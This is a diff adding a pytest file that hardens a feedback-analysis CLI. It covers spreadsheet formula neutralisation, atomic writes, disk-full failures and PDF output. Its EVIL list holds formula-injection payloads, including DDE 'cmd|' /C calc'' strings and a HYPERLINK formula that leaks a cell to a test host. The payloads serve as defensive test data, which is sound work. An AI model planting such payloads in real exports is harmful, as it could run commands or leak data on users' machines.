@@ -1,0 +1,159 @@
+"""Issue #21 hardening, the output side: exports never carry live spreadsheet formulas, brief and export
+files are written atomically, rendered ticket text carries no bidi overrides, long names are cut, and
+every expected failure of the CLI is one line on stderr with exit code 2 (no traceback)."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import os
+from pathlib import Path
+
+import numpy as np
+import pytest
+from sqlalchemy import insert
+from typer.testing import CliRunner
+
+from nlp.catalogue import KnownTopic
+from store.models import TicketRow
+from voc.atomic import atomic_open, atomic_write
+from voc.cli import app
+from voc.errors import OutputError
+from voc.spreadsheet import FORMULA_START, safe_cell
+from voc.weeks import Week
+
+runner = CliRunner()
+
+EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
+        "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+def _env(db_url: str, **extra: str) -> dict[str, str]:
+    return {"VOC_DATABASE_URL": db_url, **extra}
+
+
+def _is_live_formula(cell: str) -> bool:
+    return cell.startswith(FORMULA_START)
+
+
+# ----------------------------------------------------------------------------- 5. formula injection
+
+def test_safe_cell_neutralises_formula_starts_and_keeps_plain_values() -> None:
+    for v in EVIL:
+        assert safe_cell(v) == "'" + v
+    assert safe_cell("KX-30A door") == "KX-30A door"
+    assert safe_cell("门关不紧") == "门关不紧"
+    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None
+
+
+def test_topic_assignments_export_has_no_live_formula(db_url: str, tmp_path: Path) -> None:
+    from store import analysis
+    from store.db import make_engine
+
+    assert runner.invoke(app, ["init"], env=_env(db_url)).exit_code == 0
+    engine = make_engine(db_url)
+    w = Week.parse("2026-W47")
+    with engine.begin() as c:
+        analysis.upsert_topics(c, "complaint", [KnownTopic(1, EVIL[0], ("k",), np.zeros(4), "active")], w.ordinal())
+        for i, sid in enumerate(EVIL):
+            tid = c.execute(insert(TicketRow).values(
+                source="t", source_id=sid, event_at=w.start_dt(), week=w.ordinal(), body="b", content_hash=str(i),
+                nlp_version="t", intent="complaint")).inserted_primary_key[0]
+            analysis.save_assignments(c, [tid], [(1, 0.5)], w.ordinal())
+    engine.dispose()
+    out = tmp_path / "exports" / "assign.csv"
+    res = runner.invoke(app, ["topics", "assignments", "--out", str(out)], env=_env(db_url))
+    assert res.exit_code == 0, res.output
+    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
+    assert rows[0] == ["ticket_id", "topic_id", "topic_label", "intent"]
+    cells = [c for r in rows for c in r]
+    assert [c for c in cells if _is_live_formula(c)] == []
+    assert sorted(r[0] for r in rows[1:]) == sorted("'" + v for v in EVIL)  # neutralised, not dropped
+    assert {r[2] for r in rows[1:]} == {"'" + EVIL[0]}
+    assert [p.name for p in out.parent.iterdir()] == ["assign.csv"]  # no temporary file left
+
+
+# ----------------------------------------------------------------------------- 9. atomic writes
+
+def test_atomic_write_replaces_whole_file(tmp_path: Path) -> None:
+    p = tmp_path / "brief.html"
+    atomic_write(p, "old")
+    atomic_write(p, "<html>new</html>")
+    assert p.read_text(encoding="utf-8") == "<html>new</html>"
+    atomic_write(p, b"\x00bytes")
+    assert p.read_bytes() == b"\x00bytes"
+    assert [x.name for x in tmp_path.iterdir()] == ["brief.html"]
+    umask = os.umask(0)
+    os.umask(umask)
+    assert p.stat().st_mode & 0o777 == 0o666 & ~umask  # like a file made by open(), not mkstemp's 0600
+
+
+class _DiskFull:
+    """A file object that takes the first chunk and then fails like a full disk."""
+
+    def __init__(self, f) -> None:  # type: ignore[no-untyped-def]
+        self.f, self.calls = f, 0
+
+    def write(self, s: str) -> int:
+        self.calls += 1
+        if self.calls > 1:
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+        return self.f.write(s)
+
+
+def test_disk_full_mid_write_leaves_no_partial_file(tmp_path: Path) -> None:
+    p = tmp_path / "brief-2026-W47.zh.html"
+    with pytest.raises(OutputError, match=r"cannot write .*brief-2026-W47.zh.html: No space left on device"):
+        with atomic_open(p) as f:
+            disk = _DiskFull(f)
+            disk.write("<html>" + "x" * 24_000)
+            disk.write("</html>")
+    assert list(tmp_path.iterdir()) == []  # neither a truncated brief nor the temporary file
+
+    atomic_write(p, "complete old brief")
+    with pytest.raises(OutputError):
+        with atomic_open(p) as f:
+            f.write("half a new brief")
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+    assert p.read_text(encoding="utf-8") == "complete old brief"  # the old one stays whole
+    assert [x.name for x in tmp_path.iterdir()] == [p.name]
+
+
+def test_failing_fsync_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Delayed allocation: ENOSPC often only shows when the data is flushed to disk."""
+    def full(fd: int) -> None:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+    monkeypatch.setattr(os, "fsync", full)
+    with pytest.raises(OutputError, match="No space left"):
+        atomic_write(tmp_path / "a.md", "x" * 10_000)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_export_that_cannot_be_written_is_one_line(sqlite_url: str, tmp_path: Path) -> None:
+    assert runner.invoke(app, ["init"], env=_env(sqlite_url)).exit_code == 0
+    (tmp_path / "taken").write_text("a file, not a folder", encoding="utf-8")
+    out = tmp_path / "taken" / "a.csv"
+    res = runner.invoke(app, ["topics", "assignments", "--out", str(out)], env=_env(sqlite_url))
+    assert res.exit_code == 2
+    assert res.stderr.strip().splitlines() == [f"error: cannot write {out}: {out.parent} is a file, not a folder"]
+
+
+def test_pdf_appears_only_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Chromium prints into a private folder; the brief's folder only ever gets the complete PDF."""
+    from flows.pdf import html_to_pdf
+
+    seen = tmp_path / "seen.txt"
+    fake = tmp_path / "fake-chromium"
+    fake.write_text("#!/bin/sh\nfor a in \"$@\"; do case $a in --print-to-pdf=*) out=${a#--print-to-pdf=};; esac; done\n"
+                    f"echo \"$out\" > {seen}\nprintf '%%PDF-1.4 fake' > \"$out\"\n", encoding="utf-8")
+    fake.chmod(0o755)
+    monkeypatch.setenv("VOC_CHROMIUM", str(fake))
+    (tmp_path / "out").mkdir()
+    html = tmp_path / "out" / "brief.zh.html"
+    html.write_text("<html></html>", encoding="utf-8")
+    pdf = html_to_pdf(html, tmp_path / "out" / "brief.zh.pdf")
+    assert pdf.read_bytes() == b"%PDF-1.4 fake"
+    printed = Path(seen.read_text(encoding="utf-8").strip())
+    assert printed.parent != html.parent and not printed.exists()  # printed elsewhere, then moved in whole
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["brief.zh.html", "brief.zh.pdf"]
